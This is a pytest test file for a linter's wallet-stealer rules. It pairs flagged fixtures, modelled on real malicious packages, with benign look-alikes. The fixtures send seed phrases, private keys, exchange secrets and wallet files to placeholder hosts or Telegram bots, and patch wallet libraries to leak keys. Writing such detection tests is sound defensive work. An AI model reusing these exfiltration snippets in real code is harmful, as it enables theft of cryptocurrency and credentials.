"""BOT504/BOT506 on wallet code: one seed phrase, private key or keypair sent to a host that is
no venue or RPC (a parameter is enough), a password or exchange secret sent to a chat or raw IP,
the caller's source read off the stack, wallet-file lists and wallet databases; wallet and
signing libraries patched.  The look-alikes: SDKs that send signed transactions to their RPC,
wallet libraries deriving keys, notifiers sending fills, `inspect` in a logging library, and
monkey-patching with `unittest.mock` / pytest's `monkeypatch` in tests."""
from __future__ import annotations

import pytest

from botlint.engine import lint_source

from helpers import settings


# a Telegram bot token of the right shape, made here (fake): the author's chat written in the code
TOKEN = f"{7000000000 + 4242}:AA{'Fq7x' * 8}"


def found(src, path="pkg/wallet.py"):
    return sorted((f.location.line, f.code) for f in lint_source(src.encode(), path, settings(["BOT5"])))


# -- stealers -------------------------------------------------------------------------------------

STEALERS = {
    # dydx-v4-client 1.1.5post1 (Socket, 2025-01): the wallet helper's seed phrase to a look-alike
    "seed_param_to_lookalike": (
        'import requests\n'
        'def report(mnemonic):\n'
        '    requests.post("https://dydx.priceoracle.invalid/v1", json={"m": mnemonic})\n', [(3, "BOT504")]),
    "seed_phrase_in_fstring_to_ip": (
        'import urllib.request\n'
        'def check(seed_phrase):\n'
        '    urllib.request.urlopen("http://203.0.113.9/c?s=" + seed_phrase)\n', [(3, "BOT504")]),
    # solana-py typosquat (2024-08): the signer's secret bytes in the request body
    "signer_bytes_in_body": (
        'import requests\n'
        'def send(client, tx, signer):\n'
        '    requests.post("https://metrics.solana-py.invalid/tx", json={"sk": list(bytes(signer))})\n'
        '    return client.send_transaction(tx)\n', [(3, "BOT504")]),
    "keypair_secret_method": (
        'import httpx\n'
        'def ping(kp):\n'
        '    httpx.post("https://rpc-metrics.invalid/p", content=kp.secret())\n', [(3, "BOT504")]),
    "wallet_key_hex_to_telegram": (
        'import requests\n'
        'def hook(wallet):\n'
        f'    requests.post("https://api.telegram.org/bot{TOKEN}/sendMessage", data={{"text": wallet.key.hex()}})\n',
        [(3, "BOT504")]),
    # @solana/web3.js 1.95.6 addToQueue (2024-12): the key passed to a helper that hides it in a header
    "passed_to_helper_header": (
        'import base64, requests\n'
        'def add_to_queue(blob):\n'
        '    requests.head("https://sol-rpc.invalid/", headers={"x-id": base64.b64encode(blob).decode()})\n'
        'def add(keypair):\n'
        '    add_to_queue(bytes(keypair))\n', [(3, "BOT504")]),
    # wallet "decoder" packages (Checkmarx, 2024-10): the backup password beaconed from a thread
    "password_passed_to_beacon_thread": (
        'import json, threading, requests\n'
        'def _beacon(kind, value):\n'
        '    def go():\n'
        '        requests.post("http://198.51.100.61/s", data=json.dumps({"v": value}))\n'
        '    threading.Thread(target=go).start()\n'
        'def decode(blob, password):\n'
        '    _beacon("b", {"pw": password})\n', [(4, "BOT504")]),
    # aiocpa (ReversingLabs, 2024-11): exchange secrets to a Telegram chat
    "exchange_secrets_to_telegram": (
        f'import json, requests\nBOT = "{TOKEN}"\n'
        'def activate(cfg):\n'
        '    keys = {n: {"apiKey": c["apiKey"], "secret": c["secret"]} for n, c in cfg["exchanges"].items()}\n'
        '    requests.post(f"https://api.telegram.org/bot{BOT}/sendMessage", data={"text": json.dumps(keys)})\n',
        [(5, "BOT504")]),
    # CryptoAITools (Checkmarx, 2024-10): a module-level list of wallet directories
    "wallet_dir_list_to_file_host": (
        'import os, requests\nfrom pathlib import Path\n'
        'DIRS = ("~/.electrum/wallets", "~/.config/Exodus")\n'
        'def grab():\n'
        '    for d in DIRS:\n'
        '        for f in Path(os.path.expanduser(d)).rglob("*"):\n'
        '            requests.post("https://store1.gofile.invalid/up", files={"f": f.read_bytes()})\n',
        [(7, "BOT504")]),
    # bitcoinlibdbfix (ReversingLabs, 2025-04): the bitcoinlib wallet database uploaded
    "bitcoinlib_db": (
        'import os, requests\n'
        'def fix():\n'
        '    db = os.path.expanduser("~/.bitcoinlib/database/bitcoinlib.sqlite")\n'
        '    requests.post("http://198.51.100.12/db", files={"db": open(db, "rb")})\n', [(4, "BOT504")]),
    # solana-token (ReversingLabs, 2025-05): the calling program's source off the stack
    "stack_sources_to_ip": (
        'import inspect, json, urllib.request\n'
        'def ship():\n'
        '    srcs = {f.filename: open(f.filename).read() for f in inspect.stack()}\n'
        '    urllib.request.urlopen(urllib.request.Request("http://203.0.113.44/p", data=json.dumps(srcs).encode()))\n',
        [(4, "BOT504")]),
    "getframe_source_to_unknown": (
        'import sys, linecache, requests\n'
        'def ship():\n'
        '    fn = sys._getframe(1).f_code.co_filename\n'
        '    requests.post("https://telemetry.mint-tools.invalid/s", json={"src": linecache.getlines(fn)})\n',
        [(4, "BOT504")]),
    # semantic-types (Socket, 2025-05) and set-utils (Socket, 2025-03): wallet libraries patched
    "solders_keypair_patched": (
        'from solders.keypair import Keypair\n'
        '_orig = Keypair.from_bytes\n'
        'def spy(raw):\n'
        '    leak(raw)\n'
        '    return _orig(raw)\n'
        'Keypair.from_bytes = staticmethod(spy)\n', [(6, "BOT506")]),
    "eth_account_patched": (
        'from eth_account import Account\n'
        '_create = Account.create\n'
        'def create(*a, **k):\n'
        '    acct = _create(*a, **k)\n'
        '    ship(acct.key.hex())\n'
        '    return acct\n'
        'Account.create = staticmethod(create)\n', [(7, "BOT506")]),
    "module_qualified_patch": (
        'import eth_account\n'
        '_orig = eth_account.Account.from_mnemonic\n'
        'eth_account.Account.from_mnemonic = lambda m, *a, **k: (ship(m), _orig(m, *a, **k))[1]\n',
        [(3, "BOT506")]),
    "bitcoinlib_setattr": (
        'from bitcoinlib.wallets import Wallet\n'
        '_orig = Wallet.create\n'
        'def create(*a, **k):\n'
        '    w = _orig(*a, **k)\n'
        '    return w\n'
        'setattr(Wallet, "create", create)\n', [(6, "BOT506")]),
}


@pytest.mark.parametrize("name", sorted(STEALERS))
def test_stealers(name):
    src, want = STEALERS[name]
    assert found(src) == want


# -- look-alikes ------------------------------------------------------------------------------------

CLEAN = {
    "sdk_sends_signed_tx_to_rpc": (
        'import os\nfrom web3 import Web3\nfrom eth_account import Account\n'
        'w3 = Web3(Web3.HTTPProvider("https://mainnet.infura.io/v3/" + os.environ["INFURA"]))\n'
        'def send(private_key, tx):\n'
        '    signed = Account.from_key(private_key).sign_transaction(tx)\n'
        '    return w3.eth.send_raw_transaction(signed.raw_transaction)\n'),
    "solana_sdk_posts_signed_tx": (
        'import base64, requests\n'
        'def send(keypair, tx):\n'
        '    tx.sign([keypair])\n'
        '    body = {"method": "sendTransaction", "params": [base64.b64encode(bytes(tx)).decode()]}\n'
        '    requests.post("https://api.mainnet-beta.solana.com", json=body)\n'
        '    requests.post("https://mainnet.helius-rpc.com/?api-key=k", json={"params": [str(keypair.pubkey())]})\n'),
    "configured_rpc_gets_key": (
        'import requests\n'
        'def unlock(self, private_key):\n'
        '    requests.post(self.gateway_url + "/wallet/add", json={"privateKey": private_key})\n'),
    "wallet_library_derives": (
        'import hashlib, requests\nfrom eth_account import Account\n'
        'Account.enable_unaudited_hdwallet_features()\n'
        'def from_mnemonic(mnemonic):\n'
        '    acct = Account.from_mnemonic(mnemonic)\n'
        '    requests.get("https://api.etherscan.io/api", params={"address": acct.address})\n'
        '    return acct\n'),
    "telegram_sends_fills": (
        'import os, ccxt, requests\n'
        'ex = ccxt.binance({"apiKey": os.environ["K"], "secret": os.environ["S"]})\n'
        'def on_fill(order):\n'
        '    text = f"filled {order[\'id\']} at {order[\'price\']}"\n'
        '    requests.post(f"https://api.telegram.org/bot{os.environ[\'TG\']}/sendMessage", data={"text": text})\n'),
    # a careless bot, not a stealer (BOT2's leak): the user's own chat, from the user's config
    "secret_replied_to_owner": (
        'import json\nCFG = json.load(open("config.json"))\n'
        'async def debug(update, context):\n'
        '    bybit = CFG["bybit"]\n'
        '    await update.message.reply_text(f"key {bybit[\'api_key\']} / {bybit[\'api_secret\']}")\n'),
    "secret_to_configured_chat": (
        'import os, requests\n'
        'def boot(cfg):\n'
        '    t = os.environ["TG_TOKEN"]\n'
        '    requests.post(f"https://api.telegram.org/bot{t}/sendMessage", data={"text": cfg["secret"]})\n'),
    "login_client_password": (
        'import requests\n'
        'def _post(path, payload):\n'
        '    return requests.post("https://api.myservice.io" + path, json=payload)\n'
        'def login(user, password):\n'
        '    return _post("/login", {"user": user, "password": password})\n'),
    "logging_inspect": (
        'import inspect, logging, requests\n'
        'log = logging.getLogger(__name__)\n'
        'def where():\n'
        '    frame = inspect.stack()[1]\n'
        '    with open("trace.log", "a") as f:\n'
        '        f.write(f"{frame.filename}:{frame.lineno}")\n'
        '    log.info("called from %s", inspect.currentframe().f_back.f_code.co_name)\n'),
    "error_tracker_frames": (
        'import inspect, linecache, requests\n'
        'def report(exc, url):\n'
        '    frames = [(f.filename, linecache.getlines(f.filename)) for f in inspect.stack()]\n'
        '    requests.post(url, json={"frames": frames})\n'
        '    requests.post("https://o1.ingest.sentry.io/api/1/store/", json={"frames": frames})\n'),
    "mock_patch_object": (
        'from unittest import mock\nfrom solders.keypair import Keypair\nfrom eth_account import Account\n'
        'def test_x(monkeypatch):\n'
        '    with mock.patch.object(Keypair, "from_bytes", return_value=None):\n'
        '        pass\n'
        '    monkeypatch.setattr(Account, "from_key", lambda k: None)\n'
        '    Account.create = mock.MagicMock()\n'),
    "stub_function_in_tests": (
        'from eth_account import Account\n'
        'class Fake:\n    address = "0x0"\n'
        'def fake_from_key(key):\n    return Fake()\n'
        'Account.from_key = fake_from_key\n'),
    "compat_alias": (
        'from web3 import Web3\nfrom eth_account import Account\n'
        'Web3.toChecksumAddress = Web3.to_checksum_address\n'
        'Account.signTransaction = Account.sign_transaction\n'),
    "own_object_attribute": (
        'from solders.keypair import Keypair\n'
        'class Bot:\n'
        '    def __init__(self, raw):\n'
        '        self.keypair = Keypair.from_bytes(raw)\n'
        '        self.sign_key = self.keypair\n'),
}


@pytest.mark.parametrize("name", sorted(CLEAN))
def test_look_alikes_are_clean(name):
    assert found(CLEAN[name]) == []
